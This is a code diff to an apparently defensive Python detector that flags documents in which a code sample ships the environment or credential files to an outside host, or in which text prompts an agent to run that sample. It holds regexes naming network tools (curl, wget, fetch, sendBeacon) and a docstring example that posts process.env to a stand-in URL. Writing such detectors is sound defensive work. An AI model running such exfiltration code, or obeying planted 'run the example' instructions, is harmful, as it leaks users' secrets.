@@ -450,9 +450,14 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
     # send verb (see _beacon), so such a document is read for exfiltration whatever its verbs.
     beacon = (b"![" in data or b"<img" in data or b"<IMG" in data) and _BEACON_HINT.search(data) is not None \
         and any(occurs(c) for c in ("cred_path", "credential", "env_output"))
+    # A fenced code sample that makes a network call: it may ship the environment or a credential
+    # file with no send verb in the prose (see _code_block_sends).
+    code_send = b"```" in data or b"~~~" in data
+    code_send = code_send and "://" in visible and _NET_CALL_DATA.search(data) is not None \
+        and (together(frozenset({"env_output", "url"})) or together(frozenset({"cred_path", "url"})))
     wanted: set[str] = set()
     for attack, needs in _NEEDS.items():
-        if full or any(together(need) for need in needs) or beacon and attack == "exfiltration":
+        if full or any(together(need) for need in needs) or (beacon or code_send) and attack == "exfiltration":
             wanted.update(_READS[attack])
     if not wanted:
         return Reading(visible, index, None)
@@ -477,7 +482,7 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
                 per_par.setdefault(bisect.bisect_right(breaks, s0), set()).add(concept)
         # A verdict fixed in one paragraph and the approval command in the next (see _fixed_verdict_near).
         fixed = "universal" in found and "approve" in found and any("universal" in c for c in per_par.values())
-        if not beacon and not fixed and not any(_may_form(c, c) for c in per_par.values()):
+        if not beacon and not fixed and not code_send and not any(_may_form(c, c) for c in per_par.values()):
             return Reading(visible, index, None)
     units = split_units(visible)
     readings = [UnitReading(u, visible[u.start:u.end]) for u in units]
@@ -936,8 +941,15 @@ def hiding_joined_to_action(reading: Reading, i: int) -> bool:
     if _dangerous(w, reading.units[last] if last >= 0 and reading.units[last].unit.kind != "heading" else None):
         return True
     k = i - 1
-    while k >= 0 and reading.units[k].unit.kind not in ("cell", "heading") and i - k <= 3:
+    while k >= 0 and reading.units[k].unit.kind not in ("cell", "heading", "code") and i - k <= 3:
         k -= 1
+    if k >= 0 and reading.units[k].unit.kind == "code":  # the code sample just above: what it sends
+        block = reading.units[k].unit.block
+        while k >= 0 and reading.units[k].unit.block == block and i - k <= 60:
+            if reading.units[k].concepts & {"env_output", "cred_path"} and _code_block_sends(reading, k):
+                return True
+            k -= 1
+        return False
     seen = 0
     while k >= 0 and reading.units[k].unit.kind == "cell" and seen < 60:
         if _table_row_exfil(reading, k) is not None:
@@ -945,6 +957,35 @@ def hiding_joined_to_action(reading: Reading, i: int) -> bool:
         k -= 1
         seen += 1
     return False
+
+
+# A network call in a code sample (any language): what the block sends goes to the hosts it names.
+_NET_CALL = text_rx(r"(?i)\bfetch\s*\(|\baxios\b|\brequests\.(?:post|put|patch)\b|\bhttpx\.(?:post|put|patch)\b|\burlopen\s*\(|"
+                    r"\bhttp\.request\b|\bhttps?\.request\b|\bsendbeacon\b|xmlhttprequest|\bcurl\b|\bwget\b|\binvoke-(?:restmethod|webrequest)\b|"
+                    r"\bnew\s+websocket\b|\bnet\.connect\b|\bsocket\.(?:connect|send)")
+
+
+_NET_CALL_DATA = rx(r"(?i)\bfetch\s*\(|\baxios\b|\brequests\.(?:post|put|patch)\b|\bhttpx\.(?:post|put|patch)\b|\burlopen\s*\(|"
+                    r"\bhttps?\.request\b|\bsendbeacon\b|xmlhttprequest|\binvoke-(?:restmethod|webrequest)\b|\bnew\s+websocket\b|\bnet\.connect\b")
+
+
+def _code_block_sends(reading: Reading, i: int) -> str | None:
+    """Unit i, a line of a fenced code block, holds the whole environment or a credential file, and
+    the same block makes a network call to an outside address: the sample ships it there, whatever
+    the language (`fetch("https://x", {body: JSON.stringify({env: process.env})})`)."""
+    u = reading.units[i]
+    if u.text.lstrip().startswith(("#", "//", "--", "/*", "*", "<!--", "rem ", "'")):
+        return None  # a comment of the sample names the file, the code does not use it
+    if not any(m.concept == "env_output" or m.concept == "cred_path" and "$" not in reading.text[m.start:m.end]
+               and any(ch in reading.text[m.start:m.end] for ch in "/.~") for m in u.mentions):
+        return None
+    block = [x for x in reading.units[max(0, i - 40):i + 40] if x.unit.block == u.unit.block and x.unit.kind == "code"]
+    near = [x for x in reading.units[max(0, i - 3):i + 4] if x.unit.block == u.unit.block and x.unit.kind == "code"]
+    if not any(x.outside_url or x.ip_url for x in block) or not any(_NET_CALL.search(x.text) for x in near):
+        return None  # the call that sends it: in the same statement or the lines around it
+    if any(x.refusal or x.has("detect") for x in block):
+        return None
+    return "high"
 
 
 # A table's header that names where a row's data goes, or that it is sent ("destination",
@@ -1035,9 +1076,16 @@ def _introduces(reading: Reading, x: UnitReading, i: int) -> bool:
     return k >= 0 and reading.units[k] is x
 
 
+_BELOW = text_rx(r"(?i)\b(?:below|following|further down|later in this file)\b")
+
+
 def _acted_on(reading: Reading, i: int) -> bool:
-    """A later unit tells the agent to act on this sample ("now run the example above")."""
-    return any(reading.units[k].has("run_ref", affirmed=True) for k in range(i + 1, min(len(reading.units), i + 6)))
+    """Another unit tells the agent to act on this sample: a later one ("now run the example
+    above"), or an earlier one that points down at it ("run example B below once")."""
+    if any(reading.units[k].has("run_ref", affirmed=True) for k in range(i + 1, min(len(reading.units), i + 6))):
+        return True
+    return any(reading.units[k].has("run_ref", affirmed=True) and _BELOW.search(reading.units[k].text)
+               for k in range(max(0, i - 80), i))
 
 
 _QUOTE_CHARS = "\"\u201c\u201d\u00ab\u00bb\u300c\u300d"
@@ -1153,6 +1201,12 @@ def classify(reading: Reading) -> list[Intent]:
             if level:
                 add("exfiltration", level, "environment output written to a file that a later step uploads or publishes",
                     u.first("env_output"))
+        if u.unit.kind == "code" and c & {"env_output", "cred_path"} and not any(
+                o.attack == "exfiltration" and reading.units[o.unit].unit.block == u.unit.block for o in out):
+            level = _code_block_sends(reading, i)
+            if level:
+                add("exfiltration", level, "a code sample that sends the environment or a credential file to an outside host",
+                    u.first("env_output") or u.first("cred_path"))
         if u.unit.kind == "cell" and c & {"credential", "cred_path", "env_output"} and not any(
                 o.attack == "exfiltration" and reading.units[o.unit].unit.block == u.unit.block for o in out):
             level = _table_row_exfil(reading, i)
